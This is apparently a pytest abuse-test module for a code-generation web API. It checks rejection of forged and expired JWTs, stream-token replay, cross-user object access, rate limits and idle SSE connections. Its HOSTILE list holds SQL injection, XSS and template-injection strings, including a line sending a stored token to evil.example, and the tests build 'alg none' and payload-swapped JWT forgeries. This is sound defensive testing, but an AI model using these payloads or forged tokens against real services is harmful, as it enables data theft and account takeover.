"""Abuse and access: forged tokens, replayed stream tokens, other users' objects, injection
strings, 1,000 idle SSE connections that never read, and a client opening streams in a loop.
"""

from __future__ import annotations

import asyncio
import hashlib
import socket
import time
import uuid
from typing import Any

import aiohttp
import asyncpg
import jwt
import pytest

from codegen import appkeys
from codegen.auth import TokenService
from tests.hardening import ServeProcess, bearer, register, rss_bytes, scrape
from tests.helpers import ApiClient, wait_until

pytestmark = [pytest.mark.slow, pytest.mark.abuse]

NOT_AUTHENTICATED = {"detail": "Not authenticated"}
IDLE_STREAMS = 1000


async def _user(make_server_or_url: Any, http: aiohttp.ClientSession) -> ApiClient:
    api = ApiClient(http, make_server_or_url)
    await api.sign_up()
    return api


async def test_forged_and_expired_jwts_are_401(make_server, http, settings):
    server = await make_server(worker=False)
    alice = await _user(server.url, http)
    me = (await alice.call("GET", "/api/auth/me")).body
    secret = settings.jwt_secret
    now = int(time.time())
    claims = {"sub": me["id"], "iat": now, "exp": now + 600, "iss": TokenService.issuer, "aud": TokenService.audience}
    header, payload, signature = alice.token.split(".")  # type: ignore[union-attr]
    other_payload = jwt.encode({**claims, "sub": str(uuid.uuid4())}, "k" * 32, algorithm="HS256").split(".")[1]
    forged = {
        "alg none": jwt.encode(claims, None, algorithm="none"),
        "alg none, no signature dot": jwt.encode(claims, None, algorithm="none").rstrip("."),
        "wrong key": jwt.encode(claims, "not-the-secret-" + "k" * 32, algorithm="HS256"),
        "HS512 with the right key": _quiet_encode(claims, secret, "HS512"),
        "expired": jwt.encode({**claims, "iat": now - 7200, "exp": now - 3600}, secret, algorithm="HS256"),
        "no exp": jwt.encode({"sub": me["id"]}, secret, algorithm="HS256"),
        "nonexistent user": jwt.encode({**claims, "sub": str(uuid.uuid4())}, secret, algorithm="HS256"),
        "sub not a uuid": jwt.encode({**claims, "sub": "1 OR 1=1"}, secret, algorithm="HS256"),
        "payload swapped": f"{header}.{other_payload}.{signature}",
        "signature stripped": f"{header}.{payload}.",
        "garbage": "a.b.c",
    }
    for name, token in forged.items():
        for method, path in (("GET", "/api/auth/me"), ("GET", "/api/generations"), ("POST", "/api/projects")):
            answer = await alice.call(method, path, {"name": "x"} if method == "POST" else None,
                                      headers={"Authorization": f"Bearer {token}"})
            assert (answer.status, answer.body) == (401, NOT_AUTHENTICATED), (name, path, answer.body)
            assert answer.headers["WWW-Authenticate"] == "Bearer"
    for header_value in ("", "Bearer", "Bearer ", "Basic dXNlcjpwYXNz", f"Token {alice.token}", "Bearer  a.b.c d"):
        answer = await alice.call("GET", "/api/auth/me", headers={"Authorization": header_value})
        assert answer.status == 401, header_value
    # the real token still works
    assert (await alice.call("GET", "/api/auth/me")).status == 200


def _quiet_encode(claims: dict[str, Any], key: str, algorithm: str) -> str:
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # PyJWT's key-length advice: this is a forgery on purpose
        return jwt.encode(claims, key, algorithm=algorithm)


async def test_replayed_and_expired_stream_tokens_are_401(make_server, http, db_conn):
    server = await make_server(worker=False, stream_token_ttl_seconds=1)
    alice = await _user(server.url, http)
    generation = await alice.generate()
    token = (await alice.stream_token(generation["id"])).body
    async with http.get(server.url + token["stream_url"], params={"token": token["sse_token"]}) as first:
        assert first.status == 200
        await first.content.readline()
    for attempt in range(3):  # replays, one after another and at once
        replay = await alice.try_stream(token["stream_url"], token["sse_token"])
        assert (replay.status, replay.body) == (401, {"detail": "Invalid or expired stream token"}), attempt
    fresh = (await alice.stream_token(generation["id"])).body
    answers = await asyncio.gather(*(
        alice.call("GET", fresh["stream_url"], params={"token": fresh["sse_token"]}, timeout=aiohttp.ClientTimeout(
            total=None, sock_read=0.5)) for _ in range(5)
    ), return_exceptions=True)
    # exactly one of five simultaneous uses of one token gets the stream (it is still open: a read timeout)
    opened = [a for a in answers if isinstance(a, Exception)]
    refused = [a for a in answers if not isinstance(a, Exception)]
    assert len(opened) == 1 and all(a.status == 401 for a in refused), answers
    expiring = (await alice.stream_token(generation["id"])).body
    # time travel: the token's second is over (tests/test_windows.py tries both sides of the bound)
    await db_conn.execute(
        "UPDATE stream_tokens SET expires_at = now() - interval '1 millisecond' WHERE token_hash = $1",
        hashlib.sha256(expiring["sse_token"].encode()).digest(),
    )
    late = await alice.try_stream(expiring["stream_url"], expiring["sse_token"])
    assert (late.status, late.body) == (401, {"detail": "Invalid or expired stream token"})
    # a token for one generation opens no other, not even the same user's
    other = await alice.generate("Create a blog engine with comments")
    crossed = (await alice.stream_token(generation["id"])).body
    answer = await alice.try_stream(f"/api/generations/generate/{other['id']}/stream", crossed["sse_token"])
    assert answer.status == 401


async def test_another_users_objects_are_404_everywhere(make_server, http):
    server = await make_server()
    alice, mallory = await _user(server.url, http), await _user(server.url, http)
    generation = await alice.generate()
    await alice.wait_for(generation["id"], timeout=60)
    gid, pid = generation["id"], generation["project_id"]
    unknown = str(uuid.uuid4())

    async def same_as_unknown(method: str, template: str, body: Any = None, **kwargs: Any) -> int:
        """Mallory's answer for Alice's object is exactly the answer for an id that does not exist."""
        theirs = await mallory.call(method, template.format(gid=gid, pid=pid), body, **kwargs)
        nothing = await mallory.call(method, template.format(gid=unknown, pid=unknown), body, **kwargs)
        assert (theirs.status, theirs.body) == (nothing.status, nothing.body), (template, theirs.body)
        return theirs.status

    for prefix in ("/api", ""):
        for method, template in (
            ("GET", "/generations/{gid}"), ("POST", "/generations/{gid}/cancel"),
            ("GET", "/generations/{gid}/files"), ("GET", "/generations/{gid}/download"),
            ("GET", "/generations/{gid}/diff"), ("POST", "/generations/generate/{gid}/stream-token"),
            ("POST", "/generations/{gid}/stream-token"), ("GET", "/projects/{pid}"), ("DELETE", "/projects/{pid}"),
        ):
            assert await same_as_unknown(method, prefix + template) == 404, template
    mine = await mallory.generate("Create a weather dashboard with charts")
    assert await same_as_unknown("GET", f"/api/generations/{mine['id']}/diff?against={{gid}}") == 404
    # a generation in Alice's project, or iterating on her generation
    for field, value in (("project_id", pid), ("parent_generation_id", gid)):
        theirs = await mallory.call("POST", "/api/generations/generate",
                                    {"prompt": "Create a REST API with authentication", field: value,
                                     "is_iteration": field == "parent_generation_id"})
        nothing = await mallory.call("POST", "/api/generations/generate",
                                     {"prompt": "Create a REST API with authentication", field: unknown,
                                      "is_iteration": field == "parent_generation_id"})
        assert (theirs.status, theirs.body) == (nothing.status, nothing.body)
        assert theirs.status in (400, 404)
    # list filters reveal nothing either
    for params in ({"project_id": pid}, {"status": "completed"}, {"project_id": pid, "status": "completed"}):
        listed = await mallory.call("GET", "/api/generations", params=params)
        assert listed.status == 200 and all(g["id"] != gid for g in listed.body["items"])
    filtered = await mallory.call("GET", "/api/generations", params={"project_id": pid})
    assert filtered.body == (await mallory.call("GET", "/api/generations", params={"project_id": unknown})).body
    projects = await mallory.call("GET", "/api/projects")
    assert pid not in {p["id"] for p in projects.body["items"]}
    # and nothing of Alice's changed
    assert (await alice.generation(gid))["status"] == "completed"
    assert (await alice.call("GET", f"/api/projects/{pid}")).status == 200


HOSTILE = [
    "'); DROP TABLE generations; --",
    "Robert'); DELETE FROM users WHERE ('1'='1",
    "1' OR '1'='1' UNION SELECT password_hash FROM users --",
    "$1; SELECT pg_sleep(10); --",
    "<script>alert('xss')</script>",
    "\"><img src=x onerror=alert(document.cookie)>",
    "<svg/onload=fetch('//evil.example/'+localStorage.token)>",
    "javascript:alert(1)//{{7*7}}${7*7}<%= 7*7 %>",
    "\\x00\\u0000 %00 \u202eRTL\u202c 🙂 \ud7ff\uffff",
]


async def test_injection_strings_are_stored_and_returned_verbatim(make_server, http, database_url):
    server = await make_server(worker=False)
    alice = await _user(server.url, http)
    for text in HOSTILE:
        prompt = f"Create an app called {text} please"
        created = await alice.generate(prompt)
        assert created["prompt"] == prompt
        assert (await alice.generation(created["id"]))["prompt"] == prompt
        project = await alice.call("POST", "/api/projects", {"name": text, "description": text, "domain": text[:50]})
        assert project.status == 201, project.body
        assert (project.body["name"], project.body["description"]) == (text, text)
        fetched = await alice.call("GET", f"/api/projects/{project.body['id']}")
        assert (fetched.body["name"], fetched.body["description"], fetched.body["domain"]) == (text, text, text[:50])
        inside = await alice.generate(prompt, project_id=project.body["id"])
        assert inside["project_name"] == text
    listed = await alice.call("GET", "/api/projects")
    assert {p["name"] for p in listed.body["items"]} >= set(HOSTILE)
    answer = await alice.call("GET", "/api/generations", params={"limit": 100})
    assert {g["prompt"] for g in answer.body["items"]} >= {f"Create an app called {t} please" for t in HOSTILE}
    # the schema is intact and nobody slept
    conn = await asyncpg.connect(database_url)
    try:
        assert await conn.fetchval("SELECT count(*) FROM users WHERE id = $1",
                                   uuid.UUID((await alice.call("GET", "/api/auth/me")).body["id"])) == 1
        assert await conn.fetchval("SELECT to_regclass('generations') IS NOT NULL")
    finally:
        await conn.close()


async def test_a_client_opening_streams_in_a_loop_is_bounded_by_the_rate_limit(make_server, http):
    server = await make_server(worker=False)
    greedy = await _user(server.url, http)
    generation = await greedy.generate()
    bus = server.app[appkeys.BUS]
    opened: list[aiohttp.ClientResponse] = []
    statuses = []
    for _ in range(40):
        token = await greedy.stream_token(generation["id"])
        statuses.append(token.status)
        if token.status == 429:
            assert 1 <= int(token.headers["Retry-After"]) <= 60
            continue
        response = await http.get(server.url + token.body["stream_url"], params={"token": token.body["sse_token"]})
        assert response.status == 200
        opened.append(response)
    assert statuses.count(200) == 10 and statuses.count(429) == 30
    assert bus.subscriber_count() == 10
    for response in opened:
        response.close()
    await wait_until(lambda: _true(bus.subscriber_count() == 0))
    # another user is not affected by the greedy one
    polite = await _user(server.url, http)
    own = await polite.generate()
    assert (await polite.stream_token(own["id"])).status == 200


async def _true(value: bool) -> bool:
    return value


async def test_a_thousand_idle_streams_that_never_read(fresh_database_url, tmp_path, http):
    """1,000 clients open a stream and never read a byte; when they go, memory and streams return to baseline."""
    server = ServeProcess.start(
        fresh_database_url, tmp_path, "idle", jwt_secret="idle-" + uuid.uuid4().hex, worker=False,
        stream_token_rate_limit=0, max_streams_per_user=0,  # one user's 1,000 streams: resources, not the quota
    )
    sockets: list[socket.socket] = []
    try:
        await server.wait_ready(http)
        token, _ = await register(http, server.url)
        async with http.post(server.url + "/api/generations/generate", headers=bearer(token),
                             json={"prompt": "Create a REST API with authentication"}) as answer:
            generation = (await answer.json())["id"]
        host, port = server.url.removeprefix("http://").split(":")

        async def tokens(n: int) -> list[str]:
            async def one() -> str:
                async with http.post(f"{server.url}/api/generations/generate/{generation}/stream-token",
                                     headers=bearer(token)) as answer:
                    assert answer.status == 200
                    return (await answer.json())["sse_token"]
            out: list[str] = []
            for start in range(0, n, 50):
                out += await asyncio.gather(*(one() for _ in range(min(50, n - start))))
            return out

        def open_raw(values: list[str]) -> list[socket.socket]:
            opened = []
            for value in values:
                sock = socket.create_connection((host, int(port)), timeout=5)
                sock.sendall(f"GET /api/generations/generate/{generation}/stream?token={value} HTTP/1.1\r\n"
                             f"Host: {host}\r\nAccept: text/event-stream\r\n\r\n".encode())
                opened.append(sock)  # and never recv()
            return opened

        async def settle(streams: int) -> dict[str, float]:
            async with asyncio.timeout(60):
                while True:
                    samples = await scrape(http, server.url)
                    if samples["codegen_open_streams"] == streams:
                        return samples
                    await asyncio.sleep(0.2)

        async def wave() -> dict[str, Any]:
            """1,000 clients connect, sit there without reading, and go; what the server shows."""
            nonlocal sockets
            values = await tokens(IDLE_STREAMS)
            # (after the token requests: the pool and the test client's keep-alive connections are open)
            cold_rss = rss_bytes(server.pid)
            base = await settle(0)
            started = time.monotonic()
            sockets = await asyncio.to_thread(open_raw, values)
            peak = await settle(IDLE_STREAMS)
            open_s = time.monotonic() - started
            peak_rss = rss_bytes(server.pid)
            # the server still answers everyone else promptly
            probe_started = time.monotonic()
            async with http.get(server.url + "/api/health") as answer:
                assert answer.status == 200
            probe_s = time.monotonic() - probe_started
            await asyncio.sleep(1.0)  # they just sit there
            for sock in sockets:
                sock.close()
            sockets = []
            closed_at = time.monotonic()
            await settle(0)
            gone_s = time.monotonic() - closed_at
            async with asyncio.timeout(30):
                while (after := await scrape(http, server.url))["process_open_fds"] > base["process_open_fds"] + 5:
                    await asyncio.sleep(0.2)
            await asyncio.sleep(0.5)
            return {
                "open_s": round(open_s, 2), "health_while_open_s": round(probe_s, 3),
                "rss_before_mb": round(cold_rss / 2**20, 1), "rss_peak_mb": round(peak_rss / 2**20, 1),
                "rss_after_mb": round(rss_bytes(server.pid) / 2**20, 1),
                "per_stream_kb": round((peak_rss - cold_rss) / IDLE_STREAMS / 1024, 1),
                "fds_before": int(base["process_open_fds"]), "fds_peak": int(peak["process_open_fds"]),
                "fds_after": int(after["process_open_fds"]), "streams_peak": int(peak["codegen_open_streams"]),
                "streams_after": int(after["codegen_open_streams"]), "all_gone_after_s": round(gone_s, 2),
            }

        # the first wave raises the allocator's high-water mark (CPython and glibc keep freed memory
        # for reuse rather than give it back); the second must fit in it and leave nothing behind
        first = await wave()
        second = await wave()
        print("\nFIGURES idle", {"streams": IDLE_STREAMS, "first": first, "second": second})
        for figures in (first, second):
            assert figures["streams_peak"] == IDLE_STREAMS and figures["streams_after"] == 0
            assert figures["fds_peak"] >= figures["fds_before"] + IDLE_STREAMS
            assert figures["fds_after"] <= figures["fds_before"] + 5
        # back to baseline: the second wave leaves memory where the first left it (no leak)
        assert second["rss_after_mb"] <= first["rss_after_mb"] + 4, (first, second)
        assert second["rss_peak_mb"] <= first["rss_peak_mb"] + 4, (first, second)
        assert server.alive()
    finally:
        for sock in sockets:
            sock.close()
        server.stop()
